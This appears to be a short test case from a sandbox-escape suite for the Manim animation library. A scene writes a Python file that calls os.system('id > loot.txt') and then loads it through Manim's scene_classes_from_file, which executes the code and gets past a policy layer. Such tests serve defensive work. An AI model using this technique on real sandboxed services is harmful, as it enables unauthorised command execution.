# family: interpreter-escape
# layer: policy
# attack: Manim's scene_classes_from_file, imported by name, runs a file the scene wrote
from pathlib import Path
from manim.utils.module_ops import scene_classes_from_file
from manim import *


class Attack(Scene):
    def construct(self):
        Path("y.py").write_text("import os\nos.system('id > loot.txt')\n")
        scene_classes_from_file(Path("y.py"))
        self.wait(0.1)
